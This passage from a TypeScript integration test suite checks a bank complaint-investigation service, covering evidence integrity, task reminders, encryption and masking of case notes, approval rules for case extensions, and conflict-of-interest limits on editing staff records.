    const tampered = await call<{ type: string; status: number }>('GET', `/v1/cases/${caseId}/evidence/${evidenceId}/content`, bearer);
    expect(tampered.status).toBe(409);
    expect(tampered.contentType).toMatch(/^application\/problem\+json/);
    expect(tampered.body.type).toMatch(/evidence-integrity$/);

    const custody = await call<{ action: string; actor: string }[]>('GET', `/v1/cases/${caseId}/evidence/${evidenceId}/custody`, await token('auditor', { subject: 'auditor-1' }));
    expect(custody.status).toBe(200);
    expect(custody.body.map((c) => c.action)).toEqual(['stored', 'retrieved', 'integrity-failed']);
    expect(custody.body.at(-1)).toMatchObject({ action: 'integrity-failed', actor: investigator });
  });

  it('evidenceUpload_withoutKindOrWithAnUnknownQueryParameter_isRefused400AndStoresNothing', async () => {
    const { caseId, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    const upload = (query: string) =>
      fetch(`${investigation.baseUrl}/v1/cases/${caseId}/evidence/files?${query}`, {
        method: 'POST',
        headers: { authorization: `Bearer ${bearer}`, 'content-type': 'application/octet-stream' },
        body: Buffer.from('call recording bytes'),
      });

    const noKind = await upload('sourceSystem=recorder&description=call');
    expect(noKind.status).toBe(400);
    expect(((await noKind.json()) as { errors: { path: string }[] }).errors.map((e) => e.path)).toContain('kind');
    const unknown = await upload('kind=call-recording&sourceSystem=recorder&description=call&colour=red');
    expect(unknown.status).toBe(400);
    expect(((await unknown.json()) as { errors: { path: string }[] }).errors.map((e) => e.path)).toContain('query:colour');

    expect(await sql(`SELECT id FROM case_evidence WHERE case_id = $1`, [caseId])).toEqual([]);
    await expect(readdir(path.join(evidenceDir, 'cases', caseId))).rejects.toMatchObject({ code: 'ENOENT' });
    // The same upload with its kind and no stray parameter is stored: the refusals were about the query.
    const valid = await upload('kind=call-recording&sourceSystem=recorder&description=call');
    expect(valid.status).toBe(201);
    expect(await sql(`SELECT kind FROM case_evidence WHERE case_id = $1`, [caseId])).toEqual([{ kind: 'call-recording' }]);
  });

  it('taskReminders_goOutOnceBeforeDueAndOnceWhenOverdue_andALateResultIsMarkedLate', async () => {
    const { caseId, complaintId, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    const requested = await call<{ id: string; dueBy: string }>('POST', `/v1/cases/${caseId}/tasks`, bearer, {
      department: 'technology',
      request: '请核实该笔跨行转账在清算系统中的状态',
      dueBy: new Date(Date.now() + 3_000).toISOString(),
    });
    expect(requested.status).toBe(201);
    const taskId = requested.body.id;
    const due = new Date(requested.body.dueBy).getTime();

    const reminders = investigation.running.app.get(TaskReminders);
    const lead = investigation.running.app.get<symbol, InvestigationPolicy>(INVESTIGATION_POLICY).taskReminderLeadMs;
    const sent = async () =>
      (await outboxOf<{ taskId: string; overdue: boolean }>(complaintId, Events.CaseTaskReminder.type)).filter((e) => e.payload.taskId === taskId).map((e) => e.payload.overdue);

    await reminders.tick(new Date(due - lead - 1));
    expect(await sent()).toEqual([]);
    await reminders.tick(new Date(due - lead));
    expect(await sent()).toEqual([false]);
    await reminders.tick(new Date(due - lead + 60_000));
    expect(await sent()).toEqual([false]);
    await reminders.tick(new Date(due + 1));
    expect(await sent()).toEqual([false, true]);
    await reminders.tick(new Date(due + 60_000));
    expect(await sent()).toEqual([false, true]);

    await eventually(() => Date.now() > due + 1, { what: 'the task to fall due' });
    const late = await call('POST', `/v1/cases/${caseId}/tasks/${taskId}/result`, bearer, { result: '对方行接口超时，款项已于今日退回' });
    expect(late.status).toBe(200);
    expect(late.body).toMatchObject({ id: taskId, status: 'done', late: true });
    const completed = await outboxOf<{ taskId: string; late: boolean }>(complaintId, Events.CaseTaskCompleted.type);
    expect(completed.map((e) => e.payload)).toEqual([expect.objectContaining({ taskId, late: true })]);

    // A result recorded in time is not late.
    const onTime = await call<{ id: string }>('POST', `/v1/cases/${caseId}/tasks`, bearer, { department: 'operations', request: '请提供柜面监控截图', dueBy: new Date(Date.now() + 7 * 86_400_000).toISOString() });
    expect(onTime.status).toBe(201);
    const done = await call('POST', `/v1/cases/${caseId}/tasks/${onTime.body.id}/result`, bearer, { result: '截图已上传' });
    expect(done.status).toBe(200);
    expect(done.body).toMatchObject({ id: onTime.body.id, late: false });
  });

  it('contactLogAndNotes_areSealedAtRest_clearToTheInvestigatorAndMaskedToAnAuditor', async () => {
    const { caseId, investigator } = await assignedCase();
    const bearer = await token('investigator', { subject: investigator });
    const phone = '13912345678';
    const card = '6222021234567890123';
    const summary = `客户来电，回拨号码 ${phone}，称已收到退款短信`;
    const body = `客户提供的卡号 ${card}，待与清算记录核对`;
    expect((await call('POST', `/v1/cases/${caseId}/contacts`, bearer, { direction: 'inbound', channel: 'phone', outcome: 'information-received', summary })).status).toBe(201);
    expect((await call('POST', `/v1/cases/${caseId}/notes`, bearer, { body })).status).toBe(201);

    const [contact] = await sql<{ summary_sealed: string }>(`SELECT summary_sealed FROM case_contacts WHERE case_id = $1`, [caseId]);
    const [note] = await sql<{ body_sealed: string }>(`SELECT body_sealed FROM case_notes WHERE case_id = $1`, [caseId]);
    expect(contact.summary_sealed).toEqual(expect.any(String));
    expect(contact.summary_sealed).not.toContain(phone);
    expect(contact.summary_sealed).not.toContain('客户来电');
    expect(note.body_sealed).toEqual(expect.any(String));
    expect(note.body_sealed).not.toContain(card);
    expect(note.body_sealed).not.toContain('清算记录');
    // Nor does the text leave through the events (the staff audit records carry ids, not text).
    for (const secret of [phone, card]) {
      expect(await sql(`SELECT seq FROM outbox WHERE position($1::bytea in value) > 0`, [Buffer.from(secret)])).toEqual([]);
    }

    const clear = await call<{ contacts: { summary: string }[]; notes: { body: string }[] }>('GET', `/v1/cases/${caseId}`, bearer);
    expect(clear.status).toBe(200);
    expect(clear.body.contacts.map((c) => c.summary)).toEqual([summary]);
    expect(clear.body.notes.map((n) => n.body)).toEqual([body]);
    const masked = await call<{ contacts: { summary: string }[]; notes: { body: string }[] }>('GET', `/v1/cases/${caseId}`, await token('auditor', { subject: 'auditor-1' }));
    expect(masked.status).toBe(200);
    expect(masked.body.contacts.map((c) => c.summary)).toEqual(['(masked)']);
    expect(masked.body.notes.map((n) => n.body)).toEqual(['(masked)']);
  });

  it('extensionRequests_followTheRegimesPeriods_oneAtATime_fourEyes_andSeniorApprovalFor60Days', async () => {
    const { caseId, investigator } = await assignedCase();
    const requester = await token('investigator', { subject: investigator });
    const supervisor = await token('approver', { subject: `sup-${tag()}`, department: 'complaint-review' });
    const senior = await token('approver', { subject: `sm-${tag()}`, department: 'senior-management' });
    const request = (toPeriod: string) => call<{ id: string; detail: string; type: string }>('POST', `/v1/cases/${caseId}/extensions`, requester, { toPeriod, reason: '需调取对方银行日志' });
    const decide = (requestId: string, bearer: string) =>
      call<{ type: string; detail: string }>('POST', `/v1/cases/${caseId}/extensions/${requestId}/decision`, bearer, { decision: 'approve', reason: '对方银行回函需要时间' });
    const period = async () => (await sql<{ period: string }>(`SELECT period FROM cases WHERE id = $1`, [caseId]))[0].period;
    const requests = () => sql<{ to_period: string; decision: string | null }>(`SELECT to_period, decision FROM case_extension_requests WHERE case_id = $1 ORDER BY requested_at`, [caseId]);
    expect(await period()).toBe('standard');

    // A period the regime does not extend standard to: refused, naming those it does.
    const notPermitted = await request('review-window');
    expect(notPermitted.status).toBe(422);
    expect(notPermitted.body.detail).toContain('permitted: complex, senior-approved');
    expect(await requests()).toEqual([]);

    const complex = await request('complex');
    expect(complex.status).toBe(201);
    // One at a time.
    const second = await request('senior-approved');
    expect(second.status).toBe(422);
    expect(second.body.detail).toContain(complex.body.id);
    expect(await requests()).toEqual([{ to_period: 'complex', decision: null }]);

    // Four eyes: the requester, even holding the approver role, may not grant their own request.
    const own = await decide(complex.body.id, await token('approver', { subject: investigator, department: 'senior-management' }));
    expect(own.status).toBe(403);
    expect(own.body.type).toMatch(/case-four-eyes$/);
    expect(await requests()).toEqual([{ to_period: 'complex', decision: null }]);
    expect(await period()).toBe('standard');

    expect((await decide(complex.body.id, supervisor)).status).toBe(200);
    expect(await period()).toBe('complex');

    // From complex to 60 days: a supervisor outside senior management may not approve it; senior management may.
    const sixty = await request('senior-approved');
    expect(sixty.status).toBe(201);
    const notSenior = await decide(sixty.body.id, supervisor);
    expect(notSenior.status).toBe(403);
    expect(notSenior.body.type).toMatch(/case-authority-limit$/);
    expect(notSenior.body.detail).toContain('senior-management');
    expect(await period()).toBe('complex');
    expect(await requests()).toEqual([
      { to_period: 'complex', decision: 'approved' },
      { to_period: 'senior-approved', decision: null },
    ]);
    expect((await decide(sixty.body.id, senior)).status).toBe(200);
    expect(await period()).toBe('senior-approved');
  });

  it('involvedStaff_cannotBeShrunkByWhoIsListedOrTheirManager_onlyGrows_andASupervisorRemovesWithAReasonOnTheRecordSealed', async () => {
    const { caseId, complaintId } = await assignedCase();
    const teller = `teller-${tag()}`;
    const manager = `mgr-${tag()}`;
    await putInvestigator({ staffId: teller, department: `branch-${tag()}`, skills: ['general'], lineManager: manager, capacity: 1, active: true });
    const involved = async () => (await sql<{ involved_staff: string[] }>(`SELECT involved_staff FROM cases WHERE id = $1`, [caseId]))[0].involved_staff;
    const put = (bearer: string, body: Record<string, unknown>) => call<{ type: string; detail: string; errors?: { path: string }[] }>('PUT', `/v1/cases/${caseId}/involved-staff`, bearer, body);
    expect((await put(await token('triage-officer', { subject: 'triage-officer-1' }), { staffIds: [teller] })).status).toBe(200);
    const before = await recordOf(caseId, complaintId);

    // The manager of the teller complained about, whatever their role, and the teller: refused, nothing written.
    for (const bearer of [await token('investigator', { subject: manager }), await token('approver', { subject: manager }), await token('triage-officer', { subject: teller })]) {
      const refused = await put(bearer, { staffIds: [], reason: '录入错误' });
      expect(refused.status).toBe(403);
      expect(refused.contentType).toMatch(/^application\/problem\+json/);
      expect(refused.body.type).toMatch(/case-caller-conflict-of-interest$/);
      expect(await recordOf(caseId, complaintId)).toEqual(before);
    }
    const refusedGrowth = await put(await token('investigator', { subject: manager }), { staffIds: [teller, 'teller-other'] });
    expect(refusedGrowth.body.detail).toContain('line-manager-of-complained-about');
    expect(await involved()).toEqual([teller]);

    // Anyone else may add, but not take anyone off; a supervisor only with a reason.
    const triage = await token('triage-officer', { subject: 'triage-officer-1' });
    const shrink = await put(triage, { staffIds: [] });
    expect(shrink.status).toBe(403);
    expect(shrink.body.type).toMatch(/case-authority-limit$/);
    const supervisor = await token('approver', { subject: `sup-${tag()}` });
    const noReason = await put(supervisor, { staffIds: [] });
    expect(noReason.status).toBe(422);
    expect(noReason.body.errors).toEqual([expect.objectContaining({ path: 'reason' })]);
    expect(await recordOf(caseId, complaintId)).toEqual(before);

    expect((await put(triage, { staffIds: [teller, 'teller-other'] })).status).toBe(200);
    const removed = await put(supervisor, { staffIds: ['teller-other'], reason: '客户来电13900001111所指非此柜员，录入错误' });
    expect(removed.status).toBe(200);
    expect(await involved()).toEqual(['teller-other']);
    const audits = await outboxOf<{ action: string; detail: Record<string, string> }>(complaintId, Events.StaffActionRecorded.type);
    const last = audits.filter((a) => a.payload.action === 'case.involved-staff-recorded').at(-1)!;
    expect(last.payload.detail).toMatchObject({ involvedStaff: 'teller-other', removed: teller });
    // The reason travels sealed and whole (staff.action-recorded v2): no mask needed; the staff ids in clear.
    expect(last.payload.detail.reason).toMatch(/^v2:/);
    expect(FieldCipher.fromEnv(PII).decrypt(last.payload.detail.reason)).toBe('客户来电13900001111所指非此柜员，录入错误');

    // The longest reason the route takes (2,000 characters) goes on the record whole: v1 took 500 a detail.
    expect((await put(triage, { staffIds: [teller, 'teller-other'] })).status).toBe(200);
    const longReason = '经调取监控与柜面流水核实，'.repeat(154).slice(0, 2000);
    expect(longReason).toHaveLength(2000);
    expect((await put(supervisor, { staffIds: ['teller-other'], reason: longReason })).status).toBe(200);
    const longest = (await outboxOf<{ action: string; detail: Record<string, string> }>(complaintId, Events.StaffActionRecorded.type))
      .filter((a) => a.payload.action === 'case.involved-staff-recorded')
      .at(-1)!;
    expect(FieldCipher.fromEnv(PII).decrypt(longest.payload.detail.reason)).toBe(longReason);
  });

  it('namedAssignment_toSomeoneOutsideTheDepartmentAtTheCasesLevel_isRefused422NamingTheInvestigator_soAReviewGoesALevelUp', async () => {
    const { caseId, complaintId, department, investigator } = await assignedCase();
    const colleague = `inv-${tag()}`;
    await putInvestigator({ staffId: colleague, department, skills: ['C03'], capacity: 5, active: true });
    await withFindings(caseId, investigator);
    const issued = await call('POST', `/v1/cases/${caseId}/resolution`, await token('investigator', { subject: investigator }), { outcome: 'upheld', explanation: '经核实系统故障导致重复扣款，已更正。', actions: ['explanation', 'correction'] });
    expect(issued.body).toMatchObject({ status: 'responded' });
    const triage = await token('triage-officer', { subject: 'triage-officer-1' });
    const review = await call('POST', `/v1/cases/${caseId}/review`, triage, { reason: '客户不认可处理结果' });
    expect(review.body).toMatchObject({ status: 'under-review', level: 2, department: 'complaint-review', assignedTo: null });
    const before = await recordOf(caseId, complaintId);

    for (const bearer of [triage, await token('approver', { subject: `sup-${tag()}` })]) {
      const refused = await call<{ type: string; detail: string; errors: { path: string; message: string }[] }>('POST', `/v1/cases/${caseId}/assignment`, bearer, { investigator: colleague });
      expect(refused.status).toBe(422);
      expect(refused.contentType).toMatch(/^application\/problem\+json/);
      expect(refused.body.errors).toEqual([{ path: 'investigator', message: expect.stringContaining(`${colleague} is in ${department}`) }]);
      expect(await recordOf(caseId, complaintId)).toEqual(before);
    }
    // The first decider stays refused for 回避, before any question of department.
    const decider = await call<{ detail: string }>('POST', `/v1/cases/${caseId}/assignment`, triage, { investigator });
    expect(decider.status).toBe(422);
    expect(decider.body.detail).toContain('decided-earlier-round');

    const reviewer = `review-${tag()}`;
    await putInvestigator({ staffId: reviewer, department: 'complaint-review', skills: ['general'], capacity: 5, active: true });
    const named = await call('POST', `/v1/cases/${caseId}/assignment`, triage, { investigator: reviewer });
    expect(named.status).toBe(200);
    expect(named.body).toMatchObject({ status: 'investigating', level: 2, assignedTo: reviewer });
  });
});
